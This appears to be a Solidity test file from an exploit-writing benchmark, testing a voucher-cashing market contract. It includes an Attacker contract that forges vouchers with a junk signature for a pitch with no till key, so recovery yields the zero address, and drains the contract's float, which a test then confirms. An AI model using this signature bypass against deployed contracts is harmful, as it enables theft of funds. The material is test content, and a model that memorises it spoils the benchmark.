// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./PannierMarket.sol";

// assay-canary-93f14696-3729-4784-9bc1-28ed1fd824ef

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

/// Cashes vouchers of a pitch that nobody has taken.
contract Attacker {
    PannierMarket internal market;

    constructor(PannierMarket market_) {
        market = market_;
    }

    receive() external payable {}

    function run() external {
        for (uint64 serial = 1; serial <= 10; ++serial) {
            PannierMarket.Voucher memory v = PannierMarket.Voucher(4040, serial, type(uint64).max, address(this), 3 ether);
            market.cash(v, PannierMarket.Sig(0, bytes32(uint256(1)), bytes32(uint256(1))));
        }
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 internal constant TILL = 0xCA54;
    address internal constant CUSTOMER = address(0xC057);

    PannierMarket internal market;
    Attacker internal passer;

    receive() external payable {}

    function setUp() public {
        vm.warp(1_700_000_000);
        market = new PannierMarket();
        market.setTillKey(7, vm.addr(TILL));
        vm.deal(address(this), 60 ether);
        payable(address(market)).transfer(30 ether);
        passer = new Attacker(market);
    }

    function test_Regular() public {
        PannierMarket.Voucher memory v =
            PannierMarket.Voucher(7, 1, uint64(block.timestamp + 7 days), CUSTOMER, 2 ether);
        require(!_cash(v, 0xBAD), "another key");
        require(_cash(v, TILL), "voucher refused");
        require(CUSTOMER.balance == 2 ether && market.billed(7) == 2 ether, "paid and billed");
        require(!_cash(v, TILL), "cashed twice");
        v.serial = 2;
        v.amount = 4 ether;
        require(!_cash(v, TILL), "above the cap");
        v.amount = 1 ether;
        market.settle{value: 2 ether}(7);
        require(market.billed(7) == 0, "settled");
        vm.warp(block.timestamp + 8 days);
        require(!_cash(v, TILL), "past its date");
        market.lowerFloat(5 ether);
        require(address(market).balance == 25 ether, "float");
    }

    function _cash(PannierMarket.Voucher memory v, uint256 key) private returns (bool ok) {
        (uint8 a, bytes32 r, bytes32 s) = vm.sign(key, market.digestOf(v));
        (ok, ) = address(market).call(abi.encodeCall(market.cash, (v, PannierMarket.Sig(a, r, s))));
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// Keys and float are the clerk's; nothing billed is nothing settled.
    function test_RefusesStrangers() public {
        refuses(CUSTOMER, PannierMarket.ClerkOnly.selector);
        market.setTillKey(7, CUSTOMER);
        refuses(CUSTOMER, PannierMarket.ClerkOnly.selector);
        market.lowerFloat(1);
        vm.expectRevert(PannierMarket.NothingBilled.selector);
        market.settle(7);
        vm.expectRevert(PannierMarket.PaymentRefused.selector);
        market.lowerFloat(31 ether);
    }

    /// Signatures of one form, and vouchers for somebody.
    function test_RefusesVouchers() public {
        PannierMarket.Voucher memory v = PannierMarket.Voucher(7, 1, uint64(block.timestamp), CUSTOMER, 1 ether);
        (uint8 a, bytes32 r, bytes32 s) = vm.sign(TILL, market.digestOf(v));
        uint256 order = 0xfffffffffffffffffffffffffffffffebaaedce6af48a03bbfd25e8cd0364141;
        vm.expectRevert(PannierMarket.HighS.selector);
        market.cash(v, PannierMarket.Sig(a == 27 ? 28 : 27, r, bytes32(order - uint256(s))));
    }

    /// A pitch without a till key pays nobody.
    function test_RefusesVouchersForNobody() public {
        PannierMarket.Voucher memory v = PannierMarket.Voucher(4040, 1, uint64(block.timestamp), address(0), 1 ether);
        vm.expectRevert(abi.encodeWithSelector(PannierMarket.NotSignedByTill.selector, address(0)));
        market.cash(v, PannierMarket.Sig(0, bytes32(uint256(1)), bytes32(uint256(1))));
    }

    function exploit() public {
        passer.run();
    }

    function test_Exploit() public {
        uint256 before = address(passer).balance;
        exploit();
        require(address(passer).balance >= before + 30 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(market);
    }

    function attacker() public view returns (address) {
        return address(passer);
    }
}
